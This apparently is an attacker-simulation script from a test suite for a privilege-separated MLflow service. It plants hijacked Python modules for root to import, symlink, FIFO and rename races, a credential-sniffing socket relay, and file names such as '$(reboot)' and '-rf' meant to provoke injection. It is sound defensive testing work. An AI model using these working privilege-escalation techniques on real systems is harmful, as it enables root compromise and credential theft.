"""What a server that somebody has taken over could do: ``attacker.py ATTACK[=VALUE] …``, as the service's account.

Each attack plants something in the service's own folders, or goes on planting it, and removes it again at the end of
standard input. Prints ``ready`` once all is planted and, at the end, ``{"received": [text, …]}``: what root's
programs told it, and what it can read in its folders that is only for root.
"""

import base64
import contextlib
import ctypes
import json
import os
import re
import shutil
import signal
import socket
import sqlite3
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

HOME = Path("/var/lib/mlflow")
RUNTIME = Path("/run/mlflow")
DATABASE = HOME / "mlflow.db"
ARTIFACTS = HOME / "artifacts"
# Only root can read or write here; see tests/conftest.py.
PRECIOUS = "/srv/boundary"
SECRET = f"{PRECIOUS}/secret"
MARK = f"{PRECIOUS}/ran-as-root"
ONLY_FOR_ROOT = b"only for root"  # how the secret begins
CREATED = "/etc/created-by-an-attack"
# What the programs of root import, and what Python imports by itself.
MODULES = [
    "argparse",
    "asyncio",
    "base64",
    "contextlib",
    "ctypes",
    "dataclasses",
    "datetime",
    "encodings",
    "fcntl",
    "glob",
    "grp",
    "hashlib",
    "http",
    "json",
    "logging",
    "mlflow_service",
    "pathlib",
    "pwd",
    "re",
    "runpy",
    "secrets",
    "shutil",
    "signal",
    "sitecustomize",
    "socket",
    "sqlite3",
    "struct",
    "subprocess",
    "tempfile",
    "threading",
    "typing",
    "urllib",
    "usercustomize",
]
# Notes that root has run it, and hands on to the module that was meant, so that nobody notices.
MODULE = f"""
import os, sys
if os.geteuid() == 0:
    with open({MARK!r}, "a") as file:
        file.write(__file__ + "\\n")
here, paths, name = os.path.dirname(os.path.abspath(__file__)), sys.path[:], __name__
sys.path[:] = [path for path in paths if os.path.abspath(path or ".") != here]
del sys.modules[name]
try:
    __import__(name)
except ImportError:
    if name not in ("sitecustomize", "usercustomize"):
        raise
finally:
    sys.path[:] = paths
"""
NAMES = {"plain": [b"extra.db"], "names": [b"x\ny.db", b"\xff\xfe.db", b"  .db", b"-rf.db", b"'.db"]}
RENAME_EXCHANGE = 2  # linux/fs.h
AT_FDCWD = -100
IN_CLOSE_NOWRITE, INOTIFY_EVENT = 0x10, 16  # sys/inotify.h
LIBC = ctypes.CDLL(None, use_errno=True)
ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT max(i)"

received: list[str] = []
over = threading.Event()


def keep_at(step: Callable[[], object], seconds: float = 0.002) -> None:
    """Do a step again and again until the attacks are over."""

    def repeat() -> None:
        while not over.is_set():
            with contextlib.suppress(OSError):
                step()
            if seconds:
                time.sleep(seconds)

    threading.Thread(target=repeat, daemon=True).start()


def serve(listener: socket.socket, answer: Callable[[socket.socket], None]) -> None:
    """Answer each connection in a thread of its own."""

    def accept() -> None:
        while True:
            with contextlib.suppress(OSError):
                connection, _ = listener.accept()
                threading.Thread(target=guarded, args=(connection,), daemon=True).start()

    def guarded(connection: socket.socket) -> None:
        with contextlib.suppress(OSError), connection:
            answer(connection)

    threading.Thread(target=accept, daemon=True).start()


def listen(path: Path | bytes, backlog: int = 100) -> socket.socket:
    remove(path)
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(os.fsencode(path))
    listener.listen(backlog)
    return listener


def remove(path: Path | bytes) -> None:
    if os.path.isdir(path) and not os.path.islink(path):
        shutil.rmtree(path, ignore_errors=True)
    else:
        with contextlib.suppress(OSError):
            os.unlink(path)


def note_credentials(head: bytes) -> None:
    """Note a request's head, and what its header Authorization says."""
    received.append(head.decode(errors="replace"))
    for encoded in re.findall(rb"(?i)authorization: *basic +([\w+/=-]+)", head):
        received.append(base64.b64decode(encoded + b"==").decode(errors="replace"))


# What root's programs import


def modules(folder: str) -> Iterator[None]:
    """A folder of ours has modules by the names of those that root's programs import."""
    there = Path(folder)
    there.mkdir(exist_ok=True)
    files = [there / f"{name}.py" for name in MODULES]
    site = there / ".local/lib/python3.11/site-packages"
    site.mkdir(parents=True, exist_ok=True)
    files += [site / "usercustomize.py", site / "json.py"]
    for path in files:
        path.write_text(MODULE)
    (site / "attack.pth").write_text(f"import os; os.geteuid() or open({MARK!r}, 'a')\n")
    yield
    for path in [*files, there / ".local", there / "__pycache__"]:
        remove(path)


# What root's programs find in the runtime folder


def token(kind: str) -> Iterator[None]:
    """The machine's key to its server is something odd."""
    name, path = RUNTIME / "local-user", RUNTIME / "local-token"
    name.write_text("admin")
    if kind == "link":
        path.symlink_to(SECRET)
    elif kind == "fifo":
        os.mkfifo(path)
    elif kind == "huge":
        path.touch()
        os.truncate(path, 2**40)
    else:
        path.write_bytes(b"\xff\xfe\0\n")
    yield
    remove(name)
    remove(path)


def runtime(kind: str) -> Iterator[None]:
    """As soon as the service has a new runtime folder, root finds there what it has not left.

    ``links``: the key, the hold and the sockets for a trial lead elsewhere. ``folder``: the hold is a folder.
    """
    seen: set[int] = set()

    def plant() -> None:
        number = RUNTIME.stat().st_ino
        if number in seen:
            return
        with contextlib.suppress(FileExistsError):
            if kind == "links":
                (RUNTIME / "hold").symlink_to(CREATED)
                (RUNTIME / "local-user").write_text("admin")
                (RUNTIME / "local-token").symlink_to(SECRET)
                serve(listen(RUNTIME / "trial-0.sock"), pass_on)
            else:
                (RUNTIME / "hold" / "full").mkdir(parents=True)
        seen.add(number)

    remove(RUNTIME / "hold")
    keep_at(plant)
    yield
    for name in ("hold", "local-user", "local-token", "trial-0.sock"):
        remove(RUNTIME / name)


def pass_on(connection: socket.socket) -> None:
    """Note what root says to a server on trial, and let a true worker answer."""
    request = connection.recv(65536)
    note_credentials(request)
    for path in RUNTIME.glob("trial-*.sock"):
        if path.name == "trial-0.sock":
            continue
        with socket.socket(socket.AF_UNIX) as worker:
            worker.connect(str(path))
            worker.sendall(request)

            def rest() -> None:
                with contextlib.suppress(OSError):
                    while data := connection.recv(65536):
                        worker.sendall(data)

            threading.Thread(target=rest, daemon=True).start()
            while data := worker.recv(65536):
                connection.sendall(data)
        return


def listener(value: str) -> Iterator[None]:
    """A server of ours on a port: ``PORT,KIND`` says what it answers."""
    port, kind = value.split(",")
    body, declared = b"{}", 0
    if kind == "latin":
        body = b'"\xff\xfe"'
    elif kind == "text":
        body = b"no JSON"
    elif kind == "short":
        declared = 1000
    head = f"HTTP/1.1 200 OK\r\nContent-Length: {declared or len(body)}\r\nConnection: close\r\n\r\n".encode()
    if kind == "garbage":
        head, body = b"\xff\0\n", b""

    def answer(connection: socket.socket) -> None:
        note_credentials(connection.recv(65536))
        if kind == "drip":
            connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 100000000\r\n\r\n")
            while not over.is_set():
                connection.sendall(b"x")
                time.sleep(0.5)
        connection.sendall(head + body)

    taken = socket.create_server(("127.0.0.1", int(port)), reuse_port=True)
    serve(taken, answer)
    yield
    taken.close()


# Whom the deep check would kill


def pulse_link(target: str) -> Iterator[None]:
    """A worker's socket is a link to the socket of another program."""
    path = RUNTIME / "pulse-2.sock"
    path.symlink_to(target)
    yield
    remove(path)


def pulse_full(name: str) -> Iterator[None]:
    """A worker's socket takes no connection any more, and its name, ``pulse-NAME.sock``, says whose it is."""
    path = RUNTIME / f"pulse-{name}.sock"
    held = [listen(path, 0)]
    with contextlib.suppress(BlockingIOError):
        while True:
            client = socket.socket(socket.AF_UNIX)
            client.setblocking(False)
            client.connect(str(path))
            held.append(client)
    yield
    remove(path)


ODD_WORDS = [
    b"",
    b"\n",
    b"null\n",
    b"[]\n",
    b"7\n",
    b'"x"\n',
    b"{}\n",
    b"\xff\xfe\n",
    b"{" * 100_000 + b"\n",
    b"[" * 100_000 + b"\n",
    b'{"warm": true}\n',
    b'{"warm": true, "threads": false, "answered": {"a": []}, "in_progress": -1}\n',
    b'{"warm": "\\ud800", "threads": [], "answered": 1e999, "in_progress": null}\n',
]


def pulse_odd(_value: str) -> Iterator[None]:
    """Workers that say odd things, and odd things that look like workers."""
    names = [RUNTIME / f"pulse-{2_000_000 + number}.sock" for number in range(len(ODD_WORDS))]
    for path, words in zip(names, ODD_WORDS, strict=True):
        serve(listen(path), lambda connection, words=words: connection.sendall(words))
    for name in (b"-1", b"\xff\xfe", b"a\nb", b"9" * 200, b"", b"\xd9\xa3"):
        path = os.path.join(os.fsencode(RUNTIME), b"pulse-%s.sock" % name)
        listen(RUNTIME / "short")  # a long name does not fit into a socket's address
        os.rename(RUNTIME / "short", path)
        names.append(path)
    made = [RUNTIME / f"pulse-{name}.sock" for name in ("3000001", "3000002", "3000003", "3000004")]
    os.mkfifo(made[0])
    made[1].mkdir()
    made[2].symlink_to(made[2].name)
    made[3].write_text("no socket")
    yield
    for path in [*names, *made]:
        remove(path)


def pulse_drip(_value: str) -> Iterator[None]:
    """A worker whose line has no end."""
    path = RUNTIME / "pulse-2000000.sock"

    def answer(connection: socket.socket) -> None:
        while not over.is_set():
            connection.sendall(b" " * 1000)
            time.sleep(0.1)

    serve(listen(path), answer)
    yield
    remove(path)


# What root's programs would change elsewhere


def artifacts(target: str) -> Iterator[None]:
    """The folder of artifacts is a link."""
    aside = HOME / ".artifacts"
    shutil.move(ARTIFACTS, aside)  # a folder of the image can't be renamed in a container
    ARTIFACTS.symlink_to(target)
    yield
    remove(ARTIFACTS)
    aside.rename(ARTIFACTS)


def link(value: str) -> Iterator[None]:
    """A folder of ours is a link: ``NAME,TARGET``."""
    name, target = value.split(",")
    (HOME / name).symlink_to(target)
    yield
    remove(HOME / name)


def exchange(target: str) -> Iterator[None]:
    """The folder of artifacts and a link change places, thousands of times a second."""
    link, aside = HOME / ".link", HOME / ".artifacts"
    link.symlink_to(target)
    shutil.move(ARTIFACTS, aside)
    aside.rename(ARTIFACTS)
    names = os.fsencode(ARTIFACTS), os.fsencode(link)

    def swap() -> None:
        LIBC.renameat2(AT_FDCWD, names[0], AT_FDCWD, names[1], RENAME_EXCHANGE)

    keep_at(swap, 0.00005)
    yield
    over.set()
    time.sleep(0.1)
    if ARTIFACTS.is_symlink():
        swap()
    remove(link)


def preflight(target: str) -> Iterator[None]:
    """In the folder with credentials for a preflight, the next file is a link already."""

    def plant() -> None:
        for name in os.listdir("/run"):
            if name.startswith("mlflow-preflight-"):
                for number in range(100):
                    with contextlib.suppress(FileExistsError):
                        os.symlink(target, f"/run/{name}/{number}")

    keep_at(plant, 0)
    yield


# What a backup would read


def databases(kind: str) -> Iterator[None]:
    """More databases in the service's home: one by a plain or some by odd names, or files that look like some."""
    made: list[Path | bytes] = []
    if kind in NAMES:
        made += [os.fsencode(HOME) + b"/" + name for name in NAMES[kind]]
        for path in made:
            with contextlib.closing(sqlite3.connect(path)) as connection:
                connection.execute("CREATE TABLE t (a)")
    else:
        made += [HOME / f"{name}.db" for name in ("link", "loop", "folder", "socket", "empty", "huge", "fifo")]
        link, loop, folder, unix, empty, huge, fifo = made
        link.symlink_to(SECRET)
        loop.symlink_to(loop.name)
        folder.mkdir()
        listen(unix)
        empty.touch()
        huge.write_bytes(b"SQLite format 3\0")
        os.truncate(huge, 2**40)
        os.mkfifo(fifo)
    yield
    for path in made:
        remove(path)


def copy(_value: str) -> Iterator[None]:
    """The copy of a database, which a helper has made for root as the service's user, becomes a FIFO."""
    own, done = os.getuid(), set()

    def look() -> None:
        for process in os.listdir("/proc"):
            if not process.isdigit() or process in done:
                continue
            with contextlib.suppress(OSError):
                if os.stat(f"/proc/{process}").st_uid != own:
                    continue
                words = Path(f"/proc/{process}/cmdline").read_bytes().decode(errors="replace").split("\0")
                for path in (word for word in words if word.endswith("/copy")):
                    done.add(process)
                    replace(int(process), path)

    def replace(process: int, path: str) -> None:
        while not has_open(process, path):
            pass
        while has_open(process, path):
            pass
        os.kill(process, signal.SIGSTOP)
        remove(Path(path))
        os.mkfifo(path)
        os.kill(process, signal.SIGCONT)

    def has_open(process: int, path: str) -> bool:
        folder = f"/proc/{process}/fd"
        found = False
        for descriptor in os.listdir(folder):
            with contextlib.suppress(FileNotFoundError):
                found = found or os.readlink(f"{folder}/{descriptor}") == path
        return found

    keep_at(look, 0.005)
    yield


def swap_member(folder: str) -> Iterator[None]:
    """A database in a backup becomes a link to a secret, as soon as root has read it twice to check it."""
    member, restored = Path(folder, "databases", "extra.db"), HOME / "extra.db"
    descriptor = LIBC.inotify_init()
    LIBC.inotify_add_watch(descriptor, os.fsencode(member), IN_CLOSE_NOWRITE)
    link = Path(folder, ".link")
    link.symlink_to(SECRET)

    def swap() -> None:
        for _ in range(2):
            os.read(descriptor, INOTIFY_EVENT)
        link.rename(member)

    threading.Thread(target=swap, daemon=True).start()
    yield
    remove(restored)


# What root's programs would read, and wait for or choke on


def database(kind: str) -> Iterator[None]:
    """The database of the service is a FIFO, or its tables take for ever to read."""
    aside = HOME / "mlflow.aside"
    DATABASE.rename(aside)
    if kind == "fifo":
        os.mkfifo(DATABASE)
    else:
        with contextlib.closing(sqlite3.connect(DATABASE)) as connection:
            connection.execute(f"CREATE VIEW alembic_version AS {ENDLESS} AS version_num FROM n")
            connection.execute(f"CREATE VIEW runs AS {ENDLESS} FROM n")
            connection.execute("CREATE VIEW experiments AS SELECT * FROM runs")
    yield
    remove(DATABASE)
    aside.rename(DATABASE)


def taken_over(_value: str) -> Iterator[None]:
    """Where the server says which store it has taken over, there is a FIFO."""
    path = HOME / ".taken-over"
    os.mkfifo(path)
    yield
    remove(path)


def litter(target: str) -> Iterator[None]:
    """All that is hard to remove, for good."""
    folder = os.open(HOME, os.O_RDONLY)
    for _ in range(3000):  # more than a path may name, and than a recursion may go down
        os.mkdir("d", dir_fd=folder)
        below = os.open("d", os.O_RDONLY | os.O_NOFOLLOW, dir_fd=folder)
        os.close(folder)
        folder = below
    for name in (b"x\ny", b"\xff\xfe", b"-rf", b" ", b"*", b"$(reboot)"):
        os.mkdir(os.fsencode(HOME) + b"/" + name, 0)
    (HOME / "artifacts" / "up").symlink_to("../../../..")
    (HOME / "precious").symlink_to(target)
    (HOME / "etc").symlink_to("/etc")
    os.mkfifo(HOME / "fifo")
    listen(HOME / "socket")
    yield


def read_all() -> None:
    """Note every file in our folders that has what only root may read."""
    for folder in (HOME, RUNTIME):
        for place, folders, names in os.walk(folder):
            if place.count("/") > 20:
                folders.clear()
            for name in names:
                with contextlib.suppress(OSError):
                    descriptor = os.open(os.path.join(place, name), os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
                    with open(descriptor, "rb") as file:
                        if ONLY_FOR_ROOT in (begin := file.read(2**20)):
                            received.append(f"{place}/{name}: {begin[:200].decode(errors='replace')}")


ATTACKS = {
    name: contextlib.contextmanager(function)
    for name, function in {
        "modules": modules,
        "token": token,
        "runtime": runtime,
        "listener": listener,
        "pulse-link": pulse_link,
        "pulse-full": pulse_full,
        "pulse-odd": pulse_odd,
        "pulse-drip": pulse_drip,
        "artifacts": artifacts,
        "link": link,
        "exchange": exchange,
        "preflight": preflight,
        "databases": databases,
        "copy": copy,
        "swap-member": swap_member,
        "database": database,
        "taken-over": taken_over,
        "litter": litter,
    }.items()
}


def main() -> None:
    os.umask(0o022)
    with contextlib.ExitStack() as stack:
        for word in sys.argv[1:]:
            name, _, value = word.partition("=")
            stack.enter_context(ATTACKS[name](value))
        print("ready", flush=True)
        sys.stdin.read()
        over.set()
        read_all()
    print(json.dumps({"received": received}))
    sys.stdout.flush()
    os._exit(0)  # threads may wait for ever


if __name__ == "__main__":
    main()
